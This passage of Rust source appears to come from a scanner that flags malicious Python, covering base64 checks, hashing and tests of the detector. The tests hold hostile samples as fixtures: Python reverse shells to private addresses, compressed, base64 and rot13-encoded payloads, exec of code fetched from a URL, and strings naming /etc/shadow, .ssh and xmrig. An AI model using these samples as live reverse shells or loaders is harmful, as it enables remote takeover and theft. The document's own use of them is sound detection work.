        // Bitwise, not short-circuit, so that blocks of bytes are tested at once.
        let letter = (c | 0x20).wrapping_sub(b'a') < 26;
        let digit = c.wrapping_sub(b'0') < 10;
        letter | digit | (c == b'+') | (c == b'/') | (c == b'=')
    }
    let blocks = b.chunks_exact(32);
    let rest = blocks.remainder();
    blocks
        .into_iter()
        .all(|block| block.iter().fold(true, |all, &c| all & ok(c)))
        && rest.iter().all(|&c| ok(c))
}

const FNV_BASIS: u32 = 0x811c_9dc5;
const FNV_PRIME: u32 = 0x0100_0193;

/// 32-bit FNV-1a, continuing from `seed` (0 starts fresh).
fn fnv(seed: u32, bytes: &[u8]) -> u32 {
    let mut h = if seed == 0 { FNV_BASIS } else { seed };
    for &b in bytes {
        h ^= u32::from(b);
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

/// `(fnv(0, bytes), fnv(seed, bytes))`, the two chains interleaved.
fn fnv2(seed: u32, bytes: &[u8]) -> (u32, u32) {
    let mut a = FNV_BASIS;
    let mut b = if seed == 0 { FNV_BASIS } else { seed };
    for &c in bytes {
        a = (a ^ u32::from(c)).wrapping_mul(FNV_PRIME);
        b = (b ^ u32::from(c)).wrapping_mul(FNV_PRIME);
    }
    (a, b)
}

#[cfg(test)]
mod tests {
    #![allow(
        clippy::unwrap_used,
        clippy::disallowed_methods,
        reason = "tests over the committed corpus"
    )]
    use super::*;

    /// A xorshift generator from `seed` (not 0): random test inputs that are the same on
    /// every run.
    fn xorshift(mut x: u64) -> impl FnMut() -> u64 {
        move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        }
    }

    fn on(src: &str, f: F) -> bool {
        extract(src).named[f as usize] > 0.0
    }

    /// Only a `[` or `(` before a number or `:` is walked ([`Gathered::opened_before`]): the
    /// operator checks still see each such bracket, in lists, tuples, slices, f-string fields
    /// and decoded payloads, and not a bracket before anything else.
    #[test]
    fn brackets_before_numbers_and_colons_are_checked() {
        for src in [
            "x = 'metsys.so'[::-1]",
            "x = f\"{'metsys.so'[::-1]}\"",
            "import base64\nexec(base64.b64decode('eCA9ICdtZXRzeXMuc28nWzo6LTFd'))",
        ] {
            assert!(on(src, F::Reverse), "{src:?}");
        }
        // `import os;os.system('id')` as character codes.
        let codes: Vec<String> = "import os;os.system('id')"
            .bytes()
            .map(|c| c.to_string())
            .collect();
        let codes = codes.join(", ");
        for src in [
            format!("exec(bytes([{codes}]).decode())"),
            format!("exec(bytes(({codes})).decode())"),
            format!("exec(bytes([c for c in ({codes})]).decode())"),
            format!("exec(bytes( ({codes})).decode())"),
        ] {
            assert!(on(&src, F::OsSystem), "{src:?}");
        }
        for src in [
            "x = s[: -1]".to_owned(),
            "x = s[i:-1]".to_owned(),
            format!("exec(bytes([x, {codes}]).decode())"),
        ] {
            assert!(!on(&src, F::Reverse), "{src:?}");
            assert!(!on(&src, F::OsSystem), "{src:?}");
        }
    }

    #[test]
    fn reverse_shell_combo() {
        let src = "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')";
        assert!(on(src, F::RevShell));
        assert!(on(src, F::IpLiteral));
        assert!(!on(
            "import socket\ns = socket.socket()\ns.connect(('db', 5432))",
            F::RevShell
        ));
    }

    #[test]
    fn decodes_nested_payloads() {
        use base64::Engine as _;
        let inner = "import socket,subprocess,os;s=socket.socket();s.connect(('10.1.1.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])";
        let z = miniz_oxide::deflate::compress_to_vec_zlib(inner.as_bytes(), 6);
        let b = base64::engine::general_purpose::STANDARD.encode(z);
        let src = format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{b}')))");
        let f = extract(&src);
        assert!(f.named[F::Hidden as usize] > 0.0);
        assert!(f.named[F::RevShell as usize] > 0.0);
        assert!(f.named[F::DecodeExec as usize] > 0.0);
    }

    /// A payload padded past the decompression bound, or cut short, is scanned as far as it
    /// decompresses: padding must not hide the code in front of it.
    #[test]
    fn decodes_the_front_of_an_oversized_or_cut_payload() {
        use base64::Engine as _;
        let shell = "import socket,subprocess,os;s=socket.socket();s.connect(('10.1.1.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n";
        // Varied padding, so that it does not compress to nothing.
        let padding: String = (0..40_000)
            .map(|i| format!("v{i} = {}\n", i * 7919 % 10007))
            .collect();
        assert!(padding.len() > 2 * 256 * 1024);
        let z =
            miniz_oxide::deflate::compress_to_vec_zlib(format!("{shell}{padding}").as_bytes(), 6);
        let cut = &z[..z.len() / 2];
        // Cut short well below the bound, so that the cut, not the bound, stops it.
        let small = miniz_oxide::deflate::compress_to_vec_zlib(
            format!("{shell}{}", &padding[..4000]).as_bytes(),
            6,
        );
        let small_cut = &small[..small.len() * 3 / 4];
        for packed in [&z[..], cut, small_cut] {
            let b = base64::engine::general_purpose::STANDARD.encode(packed);
            let src = format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{b}')))");
            let f = extract(&src);
            assert!(
                f.named[F::RevShell as usize] > 0.0,
                "{} bytes",
                packed.len()
            );
            assert!(f.named[F::Hidden as usize] > 0.0);
        }
    }

    /// Every name pattern of the functions [`scan`] skips for screened-out names is in
    /// [`NAME_TRIGGERS`]: a pattern missing there would never fire.
    #[test]
    fn name_screen_covers_every_name_pattern() {
        let src = include_str!("features.rs");
        for (f, least) in [
            ("fn name_flags(", 100),
            ("fn track_files(", 15),
            ("fn received_command(", 10),
        ] {
            let mut checked = 0;
            let start = src.find(f).unwrap();
            let body = &src[start..];
            let body = &body[..body.find("\n}\n").unwrap()];
            // Match arms: lines of string patterns, `"a" | "b"` up to ` if ` or `=>`.
            for line in body.lines() {
                let t = line.trim_start();
                let indent = line.len() - t.len();
                if indent != 8 || !(t.starts_with('"') || t.starts_with("| \"")) {
                    continue;
                }
                let pattern = t.split("=>").next().unwrap().split(" if ").next().unwrap();
                for word in pattern.split('"').skip(1).step_by(2) {
                    assert!(NAME_TRIGGERS.contains(&word), "{f} matches {word:?}");
                    assert!(name_screen().may_react(word));
                    checked += 1;
                }
            }
            assert!(checked >= least, "{f}: {checked} patterns read");
        }
        // The names `scan_name` compares itself, after the screen: `last == "…"`, `full == "…"`
        // and `matches!(last, "…" | …)`.
        let scan_body = &src[src.find("fn scan_name(").unwrap()..];
        let scan_body = &scan_body[..scan_body.find("\n}\n").unwrap()];
        let name_branch = &scan_body[scan_body.find("may_react(last)").unwrap()..];
        let mut inline = Vec::new();
        for (k, _) in name_branch
            .match_indices("last == \"")
            .chain(name_branch.match_indices("full == \""))
        {
            inline.push(name_branch[k + 9..].split('"').next().unwrap());
        }
        for (k, _) in name_branch.match_indices("matches!(") {
            let args = name_branch[k..].split(')').next().unwrap();
            if args["matches!(".len()..].trim_start().starts_with("last,") {
                inline.extend(args.split('"').skip(1).step_by(2));
            }
        }
        assert!(inline.len() >= 15, "{inline:?}");
        for word in inline {
            assert!(
                NAME_TRIGGERS.contains(&last_segment(word)),
                "scan compares {word:?}"
            );
        }
        // Most ordinary names are screened out.
        let ordinary = [
            "self",
            "x",
            "append_row",
            "os.path.join",
            "result",
            "logger.info",
        ];
        let passed = ordinary
            .iter()
            .filter(|n| name_screen().may_react(last_segment(n)))
            .count();
        assert!(passed <= 1, "{passed}");
    }

    /// The entropy as first written: every count, in byte order.
    fn entropy(b: &[u8]) -> f32 {
        let mut counts = [0u32; 256];
        for &c in b {
            counts[c as usize] += 1;
        }
        let n = b.len() as f32;
        counts
            .iter()
            .filter(|&&c| c > 0)
            .map(|&c| {
                let p = c as f32 / n;
                -p * p.log2()
            })
            .sum()
    }

    #[test]
    fn entropy_skips_only_what_cannot_count() {
        // One buffer for every string, as in a scan: each measure must leave it zeroed.
        let mut counts = ByteCounts::default();
        let mut entropy_above = |b: &[u8], floor: f32| {
            let (present, e) = counts.measure(b, floor);
            assert_eq!(present, byte_set_of(b));
            assert!(counts.counts.iter().all(|&n| n == 0), "counts left behind");
            let more = counts.more.iter().flat_map(|m| m.iter().flatten());
            assert!(more.copied().all(|n| n == 0), "counts left behind");
            e
        };
        let mut next = xorshift(0x9e37_79b9_7f4a_7c15);
        let lengths = (1..600usize).chain([4095, 4096, 4097, 4099, 9000, 70_001]);
        for len in lengths {
            let alphabet = 1 + len % 256;
            let b: Vec<u8> = (0..len)
                .map(|_| (next() % alphabet as u64) as u8 ^ (len as u8))
                .collect();
            let e = entropy(&b);
            assert_eq!(
                entropy_above(&b, f32::MIN).map(f32::to_bits),
                Some(e.to_bits())
            );
            for floor in [4.0f32, 4.5, 5.0, 6.0, 7.5] {
                match entropy_above(&b, floor) {
                    Some(v) => assert_eq!(v.to_bits(), e.to_bits()),
                    None => assert!(e <= floor, "{e} skipped at {floor}"),
                }
            }
        }
    }

    /// The DFA walk finds what the library's own overlapping search finds, over the corpus's
    /// strings and every pattern set in text, in either case, overlapping one another.
    #[test]
    fn pattern_walk_matches_overlapping_search() {
        let p = patterns();
        let reference = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&p.texts)
            .unwrap();
        let mut texts: Vec<String> = Vec::new();
        for dir in ["benign-short", "runtime-malicious"] {
            let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("corpus")
                .join(dir);
            for e in std::fs::read_dir(dir).unwrap() {
                let src = std::fs::read_to_string(e.unwrap().path()).unwrap();
                let mut arena = Arena::new();
                let (tokens, _) = crate::lexer::tokenize(&src, &mut arena);
                texts.extend(
                    tokens
                        .iter()
                        .filter(|t| t.kind == Kind::Str)
                        .map(|t| t.text.to_string()),
                );
                texts.push(src);
            }
        }
        texts.push(p.texts.join(""));
        texts.push(p.texts.join(" ").to_uppercase());
        texts.push(p.texts.iter().map(|t| format!("x{t}ys")).collect());
        let mut compared = 0;
        for s in &texts {
            let mut ours = Vec::new();
            p.find(s, |m| ours.push((m.pattern, m.start, m.end)));
            let mut theirs: Vec<_> = reference
                .find_overlapping_iter(s.as_str())
                .map(|m| (m.pattern().as_usize(), m.start(), m.end()))
                .collect();
            theirs.sort_by_key(|&(pattern, _, end)| (end, pattern));
            let mut sorted = ours.clone();
            sorted.sort_by_key(|&(pattern, _, end)| (end, pattern));
            assert_eq!(sorted, theirs, "in {s:?}");
            assert!(ours.windows(2).all(|w| w[0].2 <= w[1].2), "ends in order");
            compared += ours.len();
        }
        assert!(
            compared > 3 * p.texts.len(),
            "only {compared} matches compared"
        );
    }

    #[test]
    fn byte_sets_are_the_ascii_tests() {
        for c in 0..=255u8 {
            let has = |set: &ByteSet| set[usize::from(c >> 6)] >> (c & 63) & 1 == 1;
            assert_eq!(has(&ASCII_SPACE), c.is_ascii_whitespace(), "{c}");
            assert_eq!(has(&HEX_CHARS), c.is_ascii_hexdigit(), "{c}");
            assert_eq!(
                has(&DIGITS_UPPER),
                c.is_ascii_digit() || c.is_ascii_uppercase(),
                "{c}"
            );
            assert_eq!(
                has(&BASE64_CHARS),
                c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'),
                "{c}"
            );
            assert_eq!(
                has(&STANDARD_ALPHABET),
                c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/'),
                "{c}"
            );
            assert_eq!(
                has(&URL_SAFE_ALPHABET),
                c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_'),
                "{c}"
            );
        }
    }

    /// The decoding as it was before [`Decoding`]: all of the body decoded, then inflated.
    /// The oracle of `decoding_in_pieces_is_decoding_whole`.
    fn decoded_whole(body: &str, is_hex: bool, room: usize) -> Option<Vec<u8>> {
        use base64::Engine as _;
        use miniz_oxide::inflate::core::{decompress, inflate_flags, DecompressorOxide};
        fn inflate_bounded(input: &[u8], zlib: bool) -> Option<Vec<u8>> {
            const LIMIT: usize = 256 * 1024;
            let mut flags = inflate_flags::TINFL_FLAG_USING_NON_WRAPPING_OUTPUT_BUF;
            if zlib {
                flags |= inflate_flags::TINFL_FLAG_PARSE_ZLIB_HEADER;
            }
            let mut out = vec![0u8; input.len().saturating_mul(4).clamp(1024, LIMIT)];
            let mut state = Box::<DecompressorOxide>::default();
            let mut input = input;
            let mut written = 0;
            loop {
                let (status, read, wrote) = decompress(&mut state, input, &mut out, written, flags);
                written += wrote;
                input = input.get(read..).unwrap_or_default();
                match status {
                    TINFLStatus::Done => break,
                    TINFLStatus::HasMoreOutput if out.len() < LIMIT => {
                        let grown = out.len().saturating_mul(2).min(LIMIT);
                        out.resize(grown, 0);
                    }
                    TINFLStatus::HasMoreOutput | TINFLStatus::FailedCannotMakeProgress
                        if written > 0 =>
                    {
                        break
                    }
                    _ => return None,
                }
            }
            out.truncate(written);
            Some(out)
        }
        let decoded = if is_hex {
            hex::decode(body).ok()
        } else {
            let unpadded = body.trim_end_matches('=');
            base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(unpadded)
                .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(unpadded))
                .ok()
        }?;
        let b = &decoded;
        let zlib = b.len() > 2 && b[0] == 0x78 && matches!(b[1], 0x01 | 0x5e | 0x9c | 0xda);
        let gzip = b.len() > 10 && b[0] == 0x1f && b[1] == 0x8b;
        let inflated = if zlib {
            inflate_bounded(b, true)
        } else if gzip && b[3] == 0 {
            inflate_bounded(&b[10..], false)
        } else {
            None
        };
        let mut bytes = inflated.unwrap_or(decoded);
        bytes.truncate(room);
        Some(bytes)
    }

    /// What [`blob`] hands to [`payload`], the new way, cut to what `payload` reads.
    fn decoded_in_pieces(body: &str, is_hex: bool, room: usize) -> Option<Vec<u8>> {
        let mut d = if is_hex {
            Decoding::hex(body.as_bytes())
        } else {
            Decoding::base64(
                body.trim_end_matches('=').as_bytes(),
                &byte_set_of(body.as_bytes()),
            )?
        };
        let mut bytes = decoded_payload(&mut d, room);
        bytes.truncate(room);
        Some(bytes)
    }

    /// Decoding a piece at a time, as far as it is read, gives what decoding all of the body
    /// and then inflating it gave: for bodies valid and invalid in either alphabet, compressed
    /// payloads whole, cut, padded past the bound, corrupt or followed by garbage, and plain
    /// ones longer than the budget.
    #[test]
    fn decoding_in_pieces_is_decoding_whole() {
        use base64::Engine as _;
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        // Short bodies over every character that matters, for the validity rules.
        let chars = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/-_=";
        for _ in 0..200_000 {
            let len = (next() % 11) as usize;
            let body: String = (0..len)
                .map(|_| char::from(chars[(next() % chars.len() as u64) as usize]))
                .collect();
            assert_eq!(
                decoded_in_pieces(&body, false, 1 << 20),
                decoded_whole(&body, false, 1 << 20),
                "{body:?}"
            );
        }
        // Payloads of every shape, in both alphabets and in hex, with several budgets.
        let code: String = (0..60_000)
            .map(|i| format!("v{i} = os.system('echo {}')\n", i * 7919 % 10007))
            .collect();
        let random: Vec<u8> = (0..300_000).map(|_| next() as u8).collect();
        let z = miniz_oxide::deflate::compress_to_vec_zlib(code.as_bytes(), 6);
        let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
        gz.extend(miniz_oxide::deflate::compress_to_vec(code.as_bytes(), 6));
        let mut gz_flagged = gz.clone();
        gz_flagged[3] = 8;
        let mut corrupt = z.clone();
        corrupt[z.len() / 3] ^= 0x55;
        let mut trailing = z.clone();
        trailing.extend_from_slice(&random[..50_000]);
        let small = miniz_oxide::deflate::compress_to_vec_zlib(&code.as_bytes()[..5_000], 6);
        let mut small_trailing = small.clone();
        small_trailing.extend_from_slice(&random[..100_000]);
        let payloads: Vec<&[u8]> = vec![
            &z,
            &z[..z.len() / 2],
            &z[..40],
            &gz,
            &gz[..gz.len() / 3],
            &gz_flagged,
            &corrupt,
            &trailing,
            &small,
            &small[..small.len() - 2],
            &small_trailing,
            code.as_bytes(),
            &random,
            &random[..11],
            &random[..3],
            &[0x78, 0x9c],
        ];
        for packed in payloads {
            for room in [1, 100, 20_000, DECODE_BUDGET] {
                let bodies = [
                    (
                        base64::engine::general_purpose::STANDARD.encode(packed),
                        false,
                    ),
                    (
                        base64::engine::general_purpose::URL_SAFE.encode(packed),
                        false,
                    ),
                    (
                        base64::engine::general_purpose::STANDARD_NO_PAD.encode(packed),
                        false,
                    ),
                    (hex::encode(packed), true),
                ];
                for (body, is_hex) in bodies {
                    let whole = decoded_whole(&body, is_hex, room);
                    assert!(whole.is_some(), "{} bytes", packed.len());
                    assert_eq!(
                        decoded_in_pieces(&body, is_hex, room),
                        whole,
                        "{} bytes, room {room}, hex {is_hex}",
                        packed.len()
                    );
                }
            }
        }
    }

    /// The lanes of a long string's walk find what one walk finds, in the same order:
    /// patterns planted across every lane boundary (ending just before it, on it, just after
    /// it), in random case, in base64-like and text-like filler.
    #[test]
    fn lanes_find_what_one_walk_finds() {
        let p = patterns();
        let mut next = xorshift(0x2545_f491_4f6c_dd1d);
        let longest = p.texts.iter().copied().max_by_key(|t| t.len()).unwrap();
        let fills: [&[u8]; 2] = [
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
            b"etc/shadow .ssh/ http:// /proc/1/root xmrig stratum bash -i ",
        ];
        let mut compared = 0;
        for len in [LANE_MIN, LANE_MIN + 1, LANE_MIN + 3, 5_000, 9_999, 65_537] {
            for fill in fills {
                let mut b: Vec<u8> = (0..len)
                    .map(|_| fill[(next() % fill.len() as u64) as usize])
                    .collect();
                let piece = len.div_ceil(LANES);
                let plant = |b: &mut Vec<u8>, t: &str, at: usize, case: u64| {
                    for (k, c) in t.bytes().enumerate() {
                        if let Some(slot) = b.get_mut(at + k) {
                            *slot = if case >> (k % 64) & 1 == 0 {
                                c.to_ascii_uppercase()
                            } else {
                                c
                            };
                        }
                    }
                };
                for l in 1..LANES {
                    let boundary = l * piece;
                    let t = p.texts[(next() % p.texts.len() as u64) as usize];
                    for (t, back) in [
                        (longest, longest.len()),
                        (longest, longest.len() - 1),
                        (longest, 1),
                        (t, t.len()),
                        (t, t.len().saturating_sub(1)),
                        (t, 0),
                    ] {
                        plant(&mut b, t, boundary.saturating_sub(back), next());
                        let s = String::from_utf8(b.clone()).unwrap();
                        let lanes: Vec<_> = p
                            .walk_lanes(&s)
                            .into_iter()
                            .map(|m| (m.pattern, m.start, m.end))
                            .collect();
                        let one: Vec<_> = p.walk(&s).map(|m| (m.pattern, m.start, m.end)).collect();
                        assert_eq!(lanes, one, "length {len}, {t:?} at {boundary} - {back}");
                        compared += one.len();
                    }
                }
            }
        }
        assert!(compared > 500, "only {compared} matches compared");
    }

    /// Corrupt data right after the inflate bound, where a piece of the body ends: the
    /// inflater, its buffer full and its input used up, says it has more output, yet given
    /// the rest it fails, so the payload is the raw bytes, as when the body was decoded whole
    /// (a review's case).
    #[test]
    fn corruption_after_the_bound_at_a_piece_end_is_still_found() {
        use base64::Engine as _;
        const LIMIT: usize = 256 * 1024;
        // Decoded bytes per piece: 16 KiB of hex or of base64.
        for (piece, is_hex) in [
            (Decoding::PIECE / 2, true),
            (Decoding::PIECE / 4 * 3, false),
        ] {
            let stored = |data: &[u8], out: &mut Vec<u8>| {
                let len = u16::try_from(data.len()).unwrap();
                out.push(0); // not final, stored
                out.extend_from_slice(&len.to_le_bytes());
                out.extend_from_slice(&(!len).to_le_bytes());
                out.extend_from_slice(data);
            };
            let data: Vec<u8> = (0..LIMIT).map(|i| b"import os  \n"[i % 12]).collect();
            let blocks = data.chunks(65_535).count();
            // Empty blocks in front, so that the bound is reached at the end of a piece.
            let empty = (0..piece)
                .find(|k| (2 + 5 * (blocks + k) + LIMIT).is_multiple_of(piece))
                .unwrap();
            let mut z = vec![0x78, 0x01];
            for _ in 0..empty {
                stored(&[], &mut z);
            }
            for chunk in data.chunks(65_535) {
                stored(chunk, &mut z);
            }
            assert!(z.len().is_multiple_of(piece));
            z.push(0x06); // a block of the reserved type: corrupt
            z.extend_from_slice(&[0xa5; 40_000]);
            let body = if is_hex {
                hex::encode(&z)
            } else {
                base64::engine::general_purpose::STANDARD.encode(&z)
            };
            let whole = decoded_whole(&body, is_hex, DECODE_BUDGET).unwrap();
            assert_eq!(whole.len(), z.len().min(DECODE_BUDGET), "the raw bytes");
            let pieces = decoded_in_pieces(&body, is_hex, DECODE_BUDGET).unwrap();
            assert_eq!(pieces.len(), whole.len(), "hex {is_hex}");
            assert!(pieces == whole, "hex {is_hex}");
        }
    }

    #[test]
    fn base64_block_test_is_the_byte_set() {
        // Every byte value at every position of a 32-byte block and of the remainder after
        // it, in otherwise valid strings of several lengths.
        let standard = union(&STANDARD_ALPHABET, &PAD);
        for len in [64, 65, 95, 96, 100] {
            let valid: Vec<u8> = (0..len).map(|k| b"Az09+/="[k % 7]).collect();
            assert!(all_standard_base64(&valid));
            for at in 0..len {
                for c in 0..=255u8 {
                    let mut b = valid.clone();
                    b[at] = c;
                    assert_eq!(
                        all_standard_base64(&b),
                        standard[usize::from(c >> 6)] >> (c & 63) & 1 == 1,
                        "byte {c} at {at} of {len}"
                    );
                }
            }
        }
    }

    #[test]
    fn ipv4_detection() {
        assert!(has_ipv4("connect to 10.2.3.4 now"));
        assert!(!has_ipv4("version 1.2.3"));
        assert!(!has_ipv4("127.0.0.1"));
        assert!(!has_ipv4("1.2.3.4.5"));
        assert!(has_ipv4("1.2.3.4.5 and 10.0.0.9"));
        assert!(has_ipv4("10.0.0.9"));
        assert!(!has_ipv4("a10.0.0.9"));
        assert!(has_ipv4("(192.168.1.20)"));
    }

    /// An address test that steps through every byte and tries each start there: the test that
    /// jumps from dot to dot must agree with it. (The loop before the jumping one also skipped
    /// past a failed reading, over bytes after a digit or a dot, none of which starts an
    /// address; a review compared the two exhaustively on short strings.)
    fn has_ipv4_stepping(s: &str) -> bool {
        let b = s.as_bytes();
        let mut i = 0;
        while i < b.len() {
            let starts = b[i].is_ascii_digit()
                && (i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.'));
            if starts && ipv4_at(s, i) {
                return true;
            }
            i += 1;
        }
        false
    }

    #[test]
    fn ipv4_from_dot_to_dot_agrees_with_stepping() {
        let mut next = xorshift(0x9e37_79b9_7f4a_7c15);
        let alphabet = b"0123456789.....a ";
        let mut found = 0;
        for _ in 0..200_000 {
            let len = (next() % 80) as usize;
            let s: String = (0..len)
                .map(|_| char::from(alphabet[(next() % alphabet.len() as u64) as usize]))
                .collect();
            let want = has_ipv4_stepping(&s);
            assert_eq!(has_ipv4(&s), want, "{s:?}");
            found += usize::from(want);
        }
        assert!(found > 100, "the random strings hold addresses ({found})");
        for s in EDGE_ADDRESSES {
            assert_eq!(has_ipv4(s), has_ipv4_stepping(s), "{s:?}");
        }
    }

    #[test]
    fn scheme_separators_are_found_in_short_and_long_strings() {
        // Whether the automaton gives the `://` cue for `s`, and whether `string` counts `s` as
        // a URL: on both sides of the length where strings are walked in lanes.
        let cue = |s: &str| {
            let p = patterns();
            let mut found = false;
            p.find(s, |m| found |= p.kinds[m.pattern] == SCHEME_SEPARATOR);
            found
        };
        let urls = |s: &str| {
            let mut acc = Acc {
                at: vec![Vec::new(); N_NAMED + N_PRIVATE],
                ..Acc::default()
            };
            string(s, 0, 0, false, &mut acc);
            acc.urls
        };
        for pad in [
            0,
            3,
            SHORT_SEARCH - 4,
            SHORT_SEARCH,
            LANE_MIN - 8,
            LANE_MIN,
            1000,
        ] {
            let p = "a".repeat(pad);
            for s in [
                format!("{p}http://x"),
                format!("x://{p}"),
                format!("{p}x:///"),
            ] {
                assert!(cue(&s), "{pad}: {s}");
            }
            for s in [format!("{p}a:/b:/"), format!("{p}:/"), format!("{p}:\\//")] {
                assert!(!cue(&s), "{pad}: {s}");
            }
            assert_eq!(urls(&format!("{p} http://x")), 1, "{pad}");
            assert_eq!(urls(&format!("{p} HTTP://x")), 1, "{pad}");
            assert_eq!(urls(&format!("{p} Http://x")), 0, "{pad}");
            assert_eq!(urls(&format!("{p} unix://x")), 0, "{pad}");
        }
        // The cue names no feature.
        assert!(!has_feature("http://x", F::InternalUrl));
    }

    #[test]
    fn hidden_temporary_paths_are_found_in_short_and_long_strings() {
        // The hidden-path check runs on the automaton's cue: strings short and long, walked
        // alone or in lanes, the directory at the start or the end, and the three directories.
        for pad in [0, 3, 40, LANE_MIN - 8, LANE_MIN, 1000] {
            let p = "a".repeat(pad);
            for dir in ["/tmp/", "/var/tmp/", "/dev/shm/"] {
                for text in [format!("{p} {dir}.x"), format!("{dir}.x/{p}")] {
                    assert!(on(&format!("d = '{text}'"), F::HiddenTmp), "{text}");
                }
                let visible = format!("{p} {dir}x/.y");
                assert!(on(&format!("d = '{visible}'"), F::HiddenTmp), "{visible}");
                for text in [format!("{p} {dir}x"), format!("{p} {dir}../x")] {
                    assert!(!on(&format!("d = '{text}'"), F::HiddenTmp), "{text}");
                }
            }
            // The cue ignores case; the check does not.
            assert!(!on(&format!("d = '{p} /TMP/.x'"), F::HiddenTmp), "{pad}");
        }
    }

    const EDGE_ADDRESSES: &[&str] = &[
        "http://93.184.216.34/x.sh",
        "0.0.0.0",
        "see 3.11.2.1.",
        "v1.2.3.4",
        "1.2.3.256",
        "01.002.3.4",
        "1234.1.1.1 5.6.7.8",
    ];

    #[test]
    fn odd_inputs_do_not_panic() {
        for s in [
            "",
            "'",
            "'''",
            "\u{0}",
            "exec(",
            "a.",
            ".b",
            "x='\\x'",
            "'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=='",
        ] {
            let _ = extract(s);
        }
    }

    /// Scoring takes the n-grams as the lexer reads the tokens, an explanation in a pass of
    /// its own that lists them: the two must find the same buckets (and the same named
    /// features).
    #[test]
    fn walked_and_listed_ngrams_agree() {
        let corpus = concat!(env!("CARGO_MANIFEST_DIR"), "/corpus");
        let mut sources: Vec<String> = [
            "",
            "=",
            "x",
            "'''",
            "a . b = c[1] % 'd' + \"e f\" # g",
            "import os as o\no.system('id'); exec(b'\\x70')",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        for dir in [
            "benign-short",
            "runtime-malicious",
            "blind-malicious",
            "blind-benign",
        ] {
            let mut files: Vec<_> = std::fs::read_dir(format!("{corpus}/{dir}"))
                .unwrap()
                .map(|e| e.unwrap().path())
                .collect();
            files.sort();
            sources.extend(files.iter().map(|f| std::fs::read_to_string(f).unwrap()));
        }
        for file in ["benign-oneliners.txt", "runtime-malicious-oneliners.txt"] {
            let text = std::fs::read_to_string(format!("{corpus}/{file}")).unwrap();
            sources.extend(text.lines().map(str::to_owned));
        }
        assert!(sources.len() > 300, "{} sources", sources.len());
        for src in &sources {
            let mut listed = Vec::new();
            let walked = extract(src);
            assert_eq!(walked, extract_with(src, Some(&mut listed)), "{src}");
            let mut buckets: Vec<u32> = listed.iter().map(|g| g.bucket).collect();
            buckets.sort_unstable();
            buckets.dedup();
            assert_eq!(walked.hashed, buckets, "{src}");
        }
    }

    #[test]
    fn aliases_are_resolved() {
        let src = "import socket as S, os as O, pty as P\nk = S.socket()\nk.connect(a)\nO.dup2(k.fileno(), 0)\nP.spawn('x')";
        assert!(on(src, F::Pty));
        assert!(on(src, F::RevShell));
        assert!(on(
            "from subprocess import run as go\ngo(['ls'])",
            F::Subprocess
        ));
        assert!(on("from os import system\nsystem('id')", F::OsSystem));
        assert!(on("m = __import__('so' + 'cket')\nm.socket()", F::Socket));
        assert!(on("s = os.system\ns('id')", F::OsSystem));
        // A plain `run()` of one's own is not subprocess.
        assert!(!on("def run():\n    pass\nrun()", F::Subprocess));
        assert!(!on("import numpy as np\nnp.array([1])", F::Subprocess));
    }

    #[test]
    fn strings_in_pieces_are_folded() {
        let src = "O = __import__('so'[::-1] + 'cket')\nQ = __import__(''.join(['p', 't', 'y']))\ngetattr(Q, 'sp' + 'awn')('/bin/' + 'bash')";
        assert!(on(src, F::Socket) || on(src, F::DynImport));
        assert!(on(src, F::Pty));
        assert!(on(src, F::ShellStr));
        assert!(on(
            "x = chr(47)+chr(98)+chr(105)+chr(110)+chr(47)+chr(115)+chr(104)",
            F::ShellStr
        ));
        assert!(on("getattr(os, 'sys' + 'tem')('id')", F::OsSystem));
    }

    #[test]
    fn character_code_lists_are_decoded() {
        let codes: Vec<String> = "import os;os.system('id')"
            .bytes()
            .map(|b| b.to_string())
            .collect();
        let src = format!("exec(''.join(map(chr, [{}])))", codes.join(","));
        assert!(on(&src, F::OsSystem));
        assert!(on(&src, F::HiddenExec));
        // Numbers that are not text stay numbers.
        assert!(!on(
            "x = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]",
            F::Hidden
        ));
    }

    #[test]
    fn rot13_payloads_are_decoded() {
        let src = "import codecs\ns = 'vzcbeg bf;bf.flfgrz(\"phey uggc://k | fu\")'\nexec(codecs.decode(s, 'rot_13'))";
        assert!(on(src, F::OsSystem));
        assert!(on(src, F::DecodeExec));
        assert!(!on("s = 'vzcbeg bf;bf.flfgrz(\"vq\")'", F::OsSystem));
        assert!(names_rot13(b"x.decode('ROT-13')"));
        assert!(!names_rot13(b"x = 13; rot = 1"));
    }

    #[test]
    fn certain_behaviours_decide_and_are_named_first() {
        let model = crate::embedded_model().unwrap();
        let src = "import urllib.request\nexec(urllib.request.urlopen('http://x/s.py').read())";
        let f = extract(src);
        assert_eq!(certain(&f), Some(F::ExecRemote));
        assert!(model.probability(&f) >= crate::model::CERTAIN_SCORE);
        let v = model.explain(src);
        assert_eq!(v.reasons[0].feature, "exec_remote_code");
        // Ordinary code shows none of them.
        assert_eq!(
